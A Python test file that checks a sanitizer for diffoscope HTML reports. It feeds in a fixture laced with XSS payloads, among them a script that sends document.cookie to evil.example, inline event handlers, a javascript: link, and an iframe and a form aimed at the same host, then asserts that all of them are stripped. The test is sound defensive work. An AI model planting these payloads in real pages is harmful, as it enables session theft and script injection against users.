"""A worker's diffoscope HTML report is published cleaned: readable, but nothing in it runs."""

from __future__ import annotations

import gzip
from html.parser import HTMLParser

from jobs.publish.sanitize import clean_report

REPORT = """<!DOCTYPE html><html><head><title>diffoscope</title>
<style>.diffponct { color: #b08080 } table.diff td { font-family: monospace }</style>
<script>document.location = "https://evil.example/?" + document.cookie</script></head>
<body class="diffoscope"><div class="difference"><div class="diffheader"><div class="diffcontrol">⊟</div>
<div><span class="source">usr/bin/hello</span><a class="anchor" href="#usr/bin/hello" name="usr/bin/hello">¶</a></div>
</div><table class="diff"><colgroup><col style="width: 50%"></colgroup>
<tr class="diffchanged"><td class="diffline" colspan="2">@@ -1 +1 @@</td></tr>
<tr><td class="diffpresent" onmouseover="alert(1)">built <img src=x onerror=alert(2)> on host-a</td>
<td class="diffpresent"><a href="javascript:alert(3)">host-b</a><iframe src="https://evil.example"></iframe></td></tr>
</table></div><svg onload="alert(4)"></svg><form action="https://evil.example"><input name=p></form></body></html>"""


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs


def test_scripts_handlers_and_foreign_elements_are_dropped_the_report_stays():
    for stored in (REPORT.encode(), gzip.compress(REPORT.encode())):
        clean = clean_report(stored).decode()
        seen = Tags()
        seen.feed(clean)
        assert not {"script", "iframe", "svg", "form", "input", "img"} & set(seen.tags)
        assert not [a for a, _ in seen.attrs if a.startswith("on")]
        assert not [v for _, v in seen.attrs if v and "javascript:" in v]
        assert "document.cookie" not in clean and "evil.example" not in clean
        assert {"table", "td", "style", "span", "a"} <= set(seen.tags)
        assert ".diffponct { color: #b08080 }" in clean and 'class="diffpresent"' in clean
        assert "usr/bin/hello" in clean and 'colspan="2"' in clean and "built" in clean
